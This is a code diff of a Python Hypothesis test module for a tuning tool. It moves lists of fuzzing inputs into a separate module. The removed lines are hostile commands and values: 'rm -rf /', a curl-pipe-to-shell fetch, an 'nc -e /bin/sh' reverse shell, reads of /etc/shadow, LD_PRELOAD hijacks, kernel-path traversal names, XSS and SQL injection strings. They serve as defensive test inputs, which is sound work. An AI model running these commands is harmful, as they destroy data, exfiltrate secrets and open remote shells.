@@ -6,6 +6,13 @@ from pathlib import Path
 from typing import Any
 
 from hypothesis import strategies as st
+from tests.hostile.vocabulary import (
+    COMMANDS,
+    HOSTILE_COMMANDS,
+    HOSTILE_NAMES,
+    HOSTILE_NUMBERS,
+    HOSTILE_TEXTS,
+)
 
 import sealtune.catalogue
 
@@ -13,149 +20,6 @@ ENTRIES = tomllib.loads(
     Path(sealtune.catalogue.__file__).with_name("knobs.toml").read_text("utf-8")
 )["knob"]
 _BY_NAME = {entry["name"]: entry for entry in ENTRIES}
-
-COMMANDS = (
-    "pgbench -c 4 -j 2 -T 30",
-    "sudo -u postgres pgbench -c 10 -t 1000 postgres",
-    "/usr/lib/postgresql/16/bin/pgbench -S -c 2",
-    "redis-benchmark -t get,set -c 20 -d 100",
-    "ab -k -c 10 -n 1000",
-    "sysbench cpu --threads=2 run",
-    "sysbench fileio --file-test-mode=rndrw --file-total-size=64M run",
-    "fio --name=a --rw=randwrite --bs=4k --size=64m",
-    "perf bench sched pipe",
-    "sqlite --mix=write",
-    "pgbench -S -c 2 --beside-cpu-hogs 4",
-)
-HOSTILE_COMMANDS = (
-    "rm -rf /",
-    "sh -c 'echo 0 > /proc/sys/vm/swappiness'",
-    "pgbench; reboot",
-    "pgbench && curl http://198.51.100.7/x | sh",
-    "pgbench $(cat /etc/shadow)",
-    "pgbench `id`",
-    "pgbench > /etc/passwd",
-    "pgbench -f /tmp/evil.sql",
-    "pgbench -h 198.51.100.7 -U postgres prod",
-    "pgbench --host=/var/run/postgresql production",
-    "pgbench -c 99999999",
-    "pgbench -c -4",
-    "pgbench '-c4' '-f/etc/passwd'",
-    "/tmp/evil/pgbench -c 4",
-    "./pgbench -c 4",
-    "../../bin/pgbench",
-    "/usr/bin/../../tmp/pgbench",
-    "sudo --user=root -- bash -c id",
-    "sudo -i",
-    "sudo",
-    "env LD_PRELOAD=/tmp/x.so pgbench",
-    "LD_PRELOAD=/tmp/x.so pgbench -c 1",
-    "fio --exec_prerun='touch /etc/evil' --name=a",
-    "fio --name=a --exec_postrun=reboot",
-    "fio --name=a --filename=/dev/vda --rw=write",
-    "fio --name=a --filename=../../etc/passwd",
-    "fio --name=a --directory=/etc",
-    "fio --name=a --write_bw_log=/etc/evil",
-    "fio --name=a --output=/etc/passwd",
-    "fio --name=a --ioengine=external:/tmp/evil.so",
-    "fio --name=a --client=198.51.100.7",
-    "fio --name=a --numjobs=99 --iodepth=999 --bs=1g",
-    "fio evil.fio",
-    "fio --name=a --opendir=/etc --lockmem=100g",
-    "fio --name='a --exec_prerun=id'",
-    "fio --name=a\u00a0--exec_prerun=id",
-    "sysbench /usr/share/sysbench/oltp_read_write.lua --mysql-host=198.51.100.7 run",
-    "sysbench ./evil.lua run",
-    "sysbench cpu --luajit-cmd=evil run",
-    "sysbench fileio --file-total-size=900T run",
-    "sysbench memory --memory-block-size=../../x run",
-    "sysbench --debug=on --config-file=/etc/shadow cpu run",
-    "ab -n 1 http://198.51.100.7/",
-    "ab -p /etc/shadow http://198.51.100.7/",
-    "ab -e /etc/cron.d/evil -g /etc/x http://127.0.0.1/",
-    "ab -X 198.51.100.7:3128 -c 1",
-    "redis-benchmark -h 198.51.100.7 -p 6379",
-    "redis-benchmark --eval 'os.execute(1)'",
-    "redis-benchmark -t 'get --cluster'",
-    "redis-benchmark -s /run/redis.sock FLUSHALL",
-    "redis-benchmark -a secret script load x",
-    "wrk -s evil.lua http://198.51.100.7/",
-    "iperf3 -c 198.51.100.7",
-    "perf bench all",
-    "perf record -o /etc/evil true",
-    "perf bench mem memcpy -s 900GB",
-    "perf bench sched pipe --debug-file=/etc/x",
-    "nc -e /bin/sh 198.51.100.7 4444",
-    "python3 -c 'import os'",
-    "pgbench\x00 -c 4",
-    "pgbench\u202e -c 4",
-    "pgbench -c \x1b[2J4",
-    "pgbench 'unclosed",
-    "pgbench \\",
-    "'",
-    " ",
-    "~/pgbench",
-    "pgbench -c 4 \n reboot",
-    "pgbench --beside-cpu-hogs 100000",
-    "pgbench -c \u0664",
-    "pgbench " + "-c 4 " * 300,
-)
-HOSTILE_NAMES = (
-    "kernel.core_pattern",
-    "kernel/modprobe",
-    "/proc/sys/kernel/core_pattern",
-    "/proc/sys/vm/../kernel/core_pattern",
-    "vm/../kernel/modprobe",
-    "vm.swappiness/../../kernel/core_pattern",
-    "/sys/../proc/sysrq-trigger",
-    "/proc/sysrq-trigger",
-    "kernel.randomize_va_space",
-    "randomize_va_space",
-    "KERNEL.Core_Pattern",
-    "net.ipv4.conf.all.rp_filter",
-    "net.ipv4.tcp_syncookies",
-    "vm.overcommit_memory",
-    "vm.drop_caches",
-    "block/../../etc/passwd/scheduler",
-    "block/vda/../../../etc/passwd",
-    "block/{dev}/scheduler",
-    "block/sdz/scheduler",
-    "block//scheduler",
-    "block/vda\x00/scheduler",
-    "/sys/block/vda/queue/../../../../etc/passwd",
-    "/sys/power/state",
-    "/etc/shadow",
-    "vm.swappiness\n",
-    "vm.swappiness\x00",
-    "vm.swappiness;reboot",
-    "vm .swappiness",
-    "vm.swappin\u0435ss",
-    "*",
-    "vm.*",
-    "../swappiness",
-    "",
-    " ",
-    ".",
-    "..",
-    "/",
-    "A" * 200,
-    "A" * 100_000,
-    "vm." * 66,
-    "__class__",
-    "{0.__class__}",
-    "%s%n",
-)
-_NUMBERS: tuple[Any, ...] = (
-    0, -1, 1, 2, 99, 100, 101, 150, 151, 200, 2**31 - 1, 2**31, 2**32, 2**63 - 1, 2**63, 2**64,
-    -(2**31), -(2**63), 10**30, 10**400, 1.0, 0.5, 1e18, 1e308, -0.0, 1e-320, True, False,
-)  # fmt: skip
-_TEXTS = (
-    "", " ", "0", "60 70", "0x3c", "060", "1e3", "NaN", "-5", "--5", "\u0665", "none", "null",
-    "mq-deadline", "always", "../../etc/passwd", "$(id)", "`id`", "\x00", "\x1b[2J\x1b]0;x\x07",
-    "\u202edcba", "<script>alert(1)</script>", "[bold red]x[/]", "'; DROP TABLE sessions; --",
-    "{0}", "%s" * 50, "a" * 5000, "\ud800", "\ufeff", "\U0001f4a5" * 100, "(a+)+$", "((((",
-    "(?P<x",
-)  # fmt: skip
 
 
 def _spellings(entry: dict[str, Any]) -> list[str]:
@@ -184,7 +48,7 @@ def _parameter(draw: st.DrawFn, name: str) -> dict[str, Any]:
         if item["min"] < item["max"] and draw(st.booleans()):
             item["start"] = draw(st.integers(item["min"], item["max"]))
     if draw(st.booleans()):
-        item["why"] = draw(st.sampled_from(_TEXTS[:-6]))
+        item["why"] = draw(st.sampled_from(HOSTILE_TEXTS[:-6]))
     return item
 
 
@@ -222,8 +86,8 @@ def _nested(depth: int, *, objects: bool) -> Any:
 
 _JUNK = st.one_of(
     st.none(),
-    st.sampled_from(_NUMBERS),
-    st.sampled_from(_TEXTS),
+    st.sampled_from(HOSTILE_NUMBERS),
+    st.sampled_from(HOSTILE_TEXTS),
     st.sampled_from(HOSTILE_NAMES),
     st.integers(),
     st.text(max_size=40),
